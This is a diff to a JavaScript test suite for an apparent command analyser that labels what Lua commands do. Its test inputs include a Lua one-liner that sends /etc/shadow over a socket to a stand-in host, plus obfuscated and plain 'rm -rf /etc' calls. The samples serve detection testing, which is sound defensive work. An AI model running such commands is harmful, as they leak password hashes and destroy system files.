@@ -152,6 +152,11 @@ describe('lua commands', () => {
     expect(actions('lua -e \'os.execute(string.reverse("cte/ fr- mr"))\'')).toContain('code:decoded')
   })
 
+  test('what goes out on a connection is a send of its own', () => {
+    const program = 'local s=require("socket").tcp() s:connect("h.example", 80) s:send(io.open("/etc/shadow"):read("*a"))'
+    expect(facts(`lua -e '${program}'`).effects.filter(({ action }) => action === 'net:socket')).toHaveLength(2)
+  })
+
   test('a script is read through the View', () => {
     const files = { '/repo/x.lua': '#!/usr/bin/env lua\nos.execute("rm -rf /etc")\n' }
     for (const command of ['lua x.lua', './x.lua', 'luajit x.lua a b']) expect(lines(command, { files })).toContain('delete /etc')
